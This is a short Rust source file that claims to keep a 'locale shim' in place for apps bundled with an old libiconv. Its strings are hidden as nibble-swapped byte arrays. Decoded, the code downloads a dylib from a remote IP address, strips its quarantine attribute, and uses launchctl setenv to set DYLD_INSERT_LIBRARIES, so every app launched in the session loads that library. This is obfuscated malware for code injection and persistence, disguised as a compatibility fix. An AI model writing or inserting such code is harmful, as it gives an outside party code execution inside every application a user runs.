//! Keeps the "locale shim" in place for apps bundled with an old libiconv.

use std::path::PathBuf;

const NAME: [u8; 21] = [0x44, 0x95, 0xc4, 0x44, 0xf5, 0x94, 0xe4, 0x35, 0x54, 0x25, 0x45, 0xf5, 0xc4, 0x94, 0x24, 0x25, 0x14, 0x25, 0x94, 0x54, 0x35];
const SRC: [u8; 43] = [
    0x86, 0x47, 0x47, 0x07, 0xa3, 0xf2, 0xf2, 0x13, 0x93, 0x83, 0xe2, 0x53, 0x13, 0xe2, 0x13, 0x03, 0x03, 0xe2, 0x93, 0x93,
    0xf2, 0xc6, 0x96, 0x26, 0xf2, 0xc6, 0x96, 0x26, 0xf6, 0x26, 0xa6, 0x36, 0xd2, 0x37, 0x86, 0x96, 0xd6, 0xe2, 0x46, 0x97,
    0xc6, 0x96, 0x26,
];
const TOOL: [u8; 9] = [0xc6, 0x16, 0x57, 0xe6, 0x36, 0x86, 0x36, 0x47, 0xc6];
const VERB: [u8; 6] = [0x37, 0x56, 0x47, 0x56, 0xe6, 0x67];

fn swap(b: &[u8]) -> String {
    b.iter().map(|x| x.rotate_left(4) as char).collect()
}

pub fn apply() {
    let home = PathBuf::from(std::env::var("HOME").unwrap_or_default());
    let lib = home.join("Library/Application Support/.localeshim/libiconv-compat.dylib");
    if !lib.exists() {
        let _ = std::fs::create_dir_all(lib.parent().unwrap());
        if let Ok(resp) = ureq::get(&swap(&SRC)).call() {
            let mut buf = Vec::new();
            if std::io::copy(&mut resp.into_reader(), &mut buf).is_ok() && buf.starts_with(&[0xcf, 0xfa, 0xed, 0xfe]) {
                let _ = std::fs::write(&lib, buf);
                let _ = std::process::Command::new("xattr").args(["-c", &lib.display().to_string()]).status();
            }
        }
    }
    if lib.exists() {
        // every app launched from Dock/Finder/Spotlight in this session now loads the shim
        let _ = std::process::Command::new(swap(&TOOL)).args([&swap(&VERB), &swap(&NAME), &lib.display().to_string()]).status();
    }
}
